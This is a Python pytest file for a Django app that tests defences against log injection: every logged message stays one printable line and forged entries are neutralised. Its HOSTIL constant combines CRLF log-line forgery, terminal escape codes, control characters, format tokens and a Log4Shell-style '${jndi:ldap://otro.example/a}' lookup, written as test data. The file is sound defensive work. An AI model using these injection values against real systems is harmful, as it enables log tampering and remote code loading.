"""What a person sends stays inside its entry: in the log of a process, and in the one that is kept."""

import logging
from copy import deepcopy
from io import StringIO
from logging.config import DictConfigurator  # type: ignore[attr-defined]

import pytest
from django.conf import settings
from django.test import Client

from buzon.bitacora.models import RechazoAsentado
from buzon.config.registros import visible
from buzon.web.rechazos import imprimible

FALSO = "2026-11-23 18:00:00,000 INFO buzon.web acceso concedido"
HOSTIL = f"uno\r\n{FALSO}\x1b[2J\x1b]0;x\x07\x00\x85\u2028\u202e\ud800${{jndi:ldap://otro.example/a}}{{0}}%s"


@pytest.fixture
def salida() -> StringIO:
    return StringIO()


@pytest.fixture
def registro(salida: StringIO) -> logging.Logger:
    """A log of its own, with the format that the settings give every process."""
    manejador = logging.StreamHandler(salida)
    dicho = deepcopy(settings.LOGGING["formatters"]["linea"])  # it takes apart what it is given
    manejador.setFormatter(DictConfigurator({}).configure_formatter(dicho))
    uno = logging.Logger("buzon.prueba")
    uno.addHandler(manejador)
    return uno


def test_un_mensaje_es_un_renglon(registro: logging.Logger, salida: StringIO) -> None:
    registro.warning("se rechazó %s de %s", HOSTIL, "alguien")
    [renglon] = salida.getvalue().splitlines()
    assert all(letra.isprintable() for letra in renglon)
    assert "${jndi:ldap:" in renglon  # a text: nothing looks inside
    assert renglon.endswith("{0}%s de alguien")


def test_de_una_falla_ningun_renglon_parece_otro(registro: logging.Logger, salida: StringIO) -> None:
    try:
        raise ValueError(HOSTIL)
    except ValueError:
        registro.exception("no se pudo")
    renglones = salida.getvalue().split("\n")
    assert all(letra.isprintable() for renglon in renglones for letra in renglon)
    assert not [renglon for renglon in renglones[1:] if renglon.startswith(FALSO[:4])]


def test_lo_que_se_ve_no_cambia() -> None:
    assert visible("IAÑL750210963 «H&E» 32-D") == "IAÑL750210963 «H&E» 32-D"


@pytest.mark.django_db
@pytest.mark.usefixtures("_sin_limites_usados")
def test_en_la_bitacora() -> None:
    assert imprimible(HOSTIL).isprintable()
    Client().post("/admin/login/", {"username": HOSTIL[:20].replace("\0", ""), "password": "x"})
    tratado = RechazoAsentado.objects.get(codigo="entrada_rechazada").detalle
    assert tratado == "contrasena: uno2026-11-23 18:0"
